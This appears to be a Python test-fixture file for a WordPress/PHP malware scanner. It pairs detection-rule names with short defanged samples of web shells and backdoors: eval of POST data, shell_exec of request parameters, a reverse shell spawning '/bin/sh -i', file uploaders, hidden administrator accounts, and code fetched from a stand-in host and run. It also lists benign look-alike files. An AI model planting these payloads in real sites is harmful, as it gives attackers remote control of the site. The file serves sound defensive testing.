"""What malware looks like, one family at a time: written for these tests, never run, and put together only here.

A `~` stands in the middle of each telling word, so that nobody takes this file for what it describes.
"""

from __future__ import annotations

from typing import NamedTuple


class Sample(NamedTuple):
    """A file, the rule that has to find it, and how bad that is."""

    rule: str
    severity: str
    name: str
    text: str

    @property
    def data(self) -> bytes:
        """What is in it."""
        return self.text.replace("~", "").encode("latin-1")


LONG = "QUJD" * 700
M, S = "malicious", "suspicious"

SAMPLES = (
    Sample("eval_of_decoded", M, "a.php", "<?php @ev~al ( base64_de~code('cGhwaW5mbygpOw=='));"),
    Sample("eval_of_decoded", M, "b.php", "<?php ev~al/*x*/('?>' . gzinf~late(base64_de~code($x)));"),
    Sample("decoders_in_a_row", M, "c.php", "<?php $a = gzinf~late(base64_de~code($b)); ev~al($a);"),
    Sample("eval_of_long_text", M, "d.php", f"<?php $f = '{LONG}'; $g = base64_de~code($f); ev~al($g);"),
    Sample("eval_of_long_text", M, "d2.php", f"<?php $g = base64_de~code('{LONG}'); ev~al('?>' . $g);"),
    Sample("spelled_backwards_or_rotated", M, "e.php", "<?php $f = str~rev('edoced_46~esab'); $f('x');"),
    Sample("spelled_backwards_or_rotated", M, "e2.php", "<?php $f = str_rot~13('nff~reg'); $f('x');"),
    Sample("spelled_backwards_or_rotated", M, "e3.php", "<?php $f = base64_de~code('c3lz~dGVt'); $f('x');"),
    Sample("spelled_backwards_or_rotated", M, "e4.php", '<?php $f = "\\x65\\x76~\\x61\\x6c"; $f("x");'),
    Sample("name_in_pieces", M, "f.php", "<?php $a = 'base' . '64' . '_dec' . 'ode'; $a('x');"),
    Sample("name_in_pieces", M, "f2.php", "<?php $a = 'e'.'v'.'a'.'l'; $b = \"ass\".\"ert\"; $b($x);"),
    Sample("name_in_pieces", M, "f3.php", "<?php $a = 'sys' . 'tem'; $a('id');"),
    Sample("built_from_characters", S, "g.php",
           "<?php ev~al(" + ".".join(f"chr({n})" for n in range(97, 109)) + ".'');"),
    Sample("hidden_globals", M, "h.php", '<?php ${"\\x47\\x4c~OBALS"}["a"] = 1;'),
    Sample("look_alike_names", S, "i.php", "<?php " + "".join(f"$O0{'O0_'[n % 3]}O0O={n};" for n in range(9))),
    Sample("jumps_about", S, "j.php", "<?php " + " ".join(f"go~to AbC{n:02}; AbC{n:02}: $a={n};" for n in range(15))),
    Sample("replace_and_run", S, "k.php", "<?php preg_re~place('/.*/e', $_x, '');"),
    Sample("function_from_text", M, "l.php", "<?php $f = create_fun~ction('', base64_de~code($x)); $f();"),
    Sample("eval_of_request", M, "m.php", "<?php @ev~al($_PO~ST['c']);"),
    Sample("eval_of_request", M, "m2.php", "<?php ass~ert(stripslashes($_REQ~UEST['c']));"),
    Sample("request_names_the_function", M, "n.php", "<?php $_GE~T['f']($_GE~T['c']);"),
    Sample("request_names_the_function", M, "n2.php", "<?php $c = $_COO~KIE; $c[1]($c[2], $c[3]);"),
    Sample("request_names_the_function", M, "n3.php",
           "<?php usort($_PO~ST['a'], 'ass~ert'); array_map($_GE~T['f'], $a);"),
    Sample("function_in_a_variable_gets_request", M, "o.php",
           "<?php $f = str_replace('x', '', 'sxyxsxtxexm'); @$f($_PO~ST['c']);"),
    Sample("command_of_request", M, "p.php", "<?php echo shell_ex~ec($_GE~T['cmd']);"),
    Sample("command_of_request", M, "p2.php", "<?php $cmd = $_REQ~UEST['x']; pass~thru(\"$cmd 2>&1\");"),
    Sample("command_of_request", M, "p3.php", "<?php echo `{$_GE~T['c']}`;"),
    Sample("connects_back", M, "q.php", "<?php $s = fsock~open($h, $p); $r = proc_op~en('/bin/~sh -i', $d, $pipes);"),
    Sample(
        "many_tools_of_a_shell", M, "r.php",
        "<form><input name=c></form><?php echo php_un~ame(), ini_get('disable_fun~ctions'), posix_getp~wuid(1);"
        " if ($_PO~ST['c']) { shell_ex~ec($x); pass~thru($x); } unlink($_GE~T['f']); echo filep~erms($f); scandir($d);",
    ),
    Sample("shell_by_its_name", M, "s.php", "<?php /* Files~Man */ ev~al($x);"),
    Sample("password_before_a_door", M, "t.php",
           "<?php if (md5($_PO~ST['p']) === '" + "0f" * 16 + "') { sys~tem($x); }"),
    Sample("uploader", M, "u.php", "<form method=post enctype=multipart/form-data><input type=file name=f></form><?php"
           " move_uploaded~_file($_FIL~ES['f']['tmp_name'], $_FIL~ES['f']['name']);"),
    Sample("uploader", M, "u2.php", "<form><input type='file' name=f></form><?php $t = $_FIL~ES['f']['tmp_name'];"
           " if (co~py($t, './' . $_FIL~ES['f']['name'])) echo 'ok';"),
    Sample("writes_what_is_sent", M, "v.php", "<?php file_put_con~tents($f, base64_de~code($_PO~ST['d']));"),
    Sample("fetches_and_runs", M, "w.php", "<?php ev~al('?>' . file_get_con~tents('https://a.example/x.txt'));"),
    Sample("fetches_and_runs", M, "w2.php", "<?php inc~lude($_GE~T['page']);"),
    Sample("fetches_a_program", S, "x.php",
           "<?php file_put_con~tents('a.php', file_get_con~tents('https://a.example'));"),
    Sample("eval_of_option", M, "y.php", "<?php ev~al(base64_de~code(get_opt~ion('widget_x')));"),
    Sample("option_opens_the_site", M, "z.php", "<?php update_opt~ion('default_role', 'admini~strator');"),
    Sample("option_sends_visitors_away", S, "aa.php", "<?php update_opt~ion('siteurl', 'https://a.example');"),
    Sample("makes_an_administrator", M, "ab.php", "<?php $u = wp_create~_user('wpx', 'secret', 'a@b.example');"
           " $w = new WP_User($u); $w->set_role('admini~strator');"),
    Sample("hides_a_user", M, "ac.php", "<?php add_action('pre_user~_query', function ($q) { $q->query_where .="
           " \" AND user_lo~gin != 'x'\"; });"),
    Sample("signs_in_without_a_password", S, "ad.php", "<?php if (isset($_GE~T['k'])) { wp_set_auth~_cookie(1); }"),
    Sample("plugin_that_hides", S, "ae.php", "<?php /* Plugin Name: Core */ add_filter('all_pl~ugins', 'h');"
           " function h($p) { unset($p[plugin_basename(__FILE__)]); return $p; } file_put_con~tents($a, $b);"),
    Sample("fake_plugin", M, "af.php", "<?php /* Plugin Name: Site Cache */ @ev~al($_PO~ST['c']);"),
    Sample("mailer", M, "ag.php",
           "<?php $l = explode(\"\\n\", $_PO~ST['emaill~ist']); foreach ($l as $to) { ma~il($to, $s, $b); }"),
    Sample("includes_an_image", M, "ah.php", "<?php @inc~lude '/home/a/b/favicon_0a1b.ico';"),
    Sample("includes_an_image", M, "ah2.php", '<?php @inc~lude "\\x2fhome/\\157ne/f\\x69le";'),
    Sample("php_in_an_image", M, "ai.png", "\x89PNG\r\n\x1a\n....<?php ev~al($_PO~ST['c']);"),
    Sample("redirects_those_who_search", S, "aj.php",
           "<?php if (preg_match('/google|bing/', $_SERVER['HTTP_REFERER']) &&"
           " strpos($_SERVER['HTTP_REFERER'], 'google')) { header('Location: https://a.example/pills'); }"),
    Sample("script_that_decodes_itself", S, "ak.php", "<script>ev~al(String.from~CharCode(118,97,114));</script>"),
)  # fmt: skip

ORDINARY = {
    "golden.php": "<?php\n// Silence is golden.\n",
    "form.php": "<?php if (isset($_POST['email'])) { wp_mail($to, 'Hello', esc_html($_POST['email'])); }",
    "image.php": "<?php $data = base64_decode($encoded); file_put_contents($cache . '/thumb.png', $data);",
    "upload.php": "<?php check_admin_referer('up'); $m = wp_handle_upload($_FILES['f']); ?>"
    "<form enctype='multipart/form-data'><input type=file></form>",
    "callback.php": "<?php $values = array_map('sanitize_text_field', $_POST['v']); call_user_func($f, $values);",
    "command.php": "<?php exec('convert ' . escapeshellarg($file), $out, $status);",
    "include.php": "<?php include_once __DIR__ . '/views/page.php'; echo includes_url('images/rss.png');",
    "users.php": "<?php if (current_user_can('create_users') && wp_verify_nonce($n)) {"
    " $id = wp_insert_user(['user_login' => $l, 'user_pass' => wp_generate_password(), 'role' => 'administrator']); }",
    "mode.php": "<?php $t = preg_replace('/\\s+/u', ' ', $t); $u = preg_replace('#e#i', 'e', $u);",
    "bytes.php": "<?php $bom = chr(0xEF) . chr(0xBB) . chr(0xBF);",
    "site.php": "<?php update_option('siteurl', $url); update_option('home', $url);",
}
"""Files as plugins have them, which come near to what the rules look for."""
